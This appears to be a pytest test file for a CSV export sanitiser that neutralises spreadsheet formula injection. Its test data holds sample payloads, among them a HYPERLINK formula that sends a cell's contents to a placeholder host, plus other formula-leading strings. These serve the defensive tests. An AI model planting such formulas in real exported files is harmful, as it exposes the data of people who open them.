import csv
import io

import pytest

from okoa.lib.csv_export import safe_cell, write_csv


@pytest.mark.parametrize(
    "dangerous",
    ['=HYPERLINK("http://x/?"&A1)', "+254700", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "\uff1d1+1"],
)
def test_cells_that_start_a_formula_are_neutralised(dangerous):
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["Wanjiku", "0712 345 678", "a=b", "", "2026-01-01"])
def test_ordinary_cells_are_left_alone(harmless):
    assert safe_cell(harmless) == harmless


def test_the_document_reads_back_with_every_cell_as_text():
    document = write_csv(["name", "note"], [["=1+1", 'said "hello", left'], [None, 5]])
    rows = list(csv.reader(io.StringIO(document.lstrip("\ufeff"))))
    assert rows == [["name", "note"], ["'=1+1", 'said "hello", left'], ["", "5"]]
